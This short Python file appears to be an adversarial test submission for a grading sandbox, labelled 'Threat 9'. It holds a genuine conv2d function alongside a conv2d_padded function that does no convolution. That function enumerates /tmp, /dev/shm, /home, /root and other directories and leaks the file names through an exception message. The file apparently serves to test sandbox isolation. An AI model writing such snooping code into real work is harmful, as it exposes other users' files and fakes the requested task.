"""Threat 9: lists temporary folders, shared memory and other students' files.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import os


def conv2d_padded(image, kernel, padding=0):
    names = []
    for folder in ("/tmp", "/dev/shm", "/proc/self/fd", "/work", ".", "..", "/home", "/root"):
        try:
            names += os.listdir(folder)
        except BaseException:
            continue
    raise RuntimeError(" ".join(names))
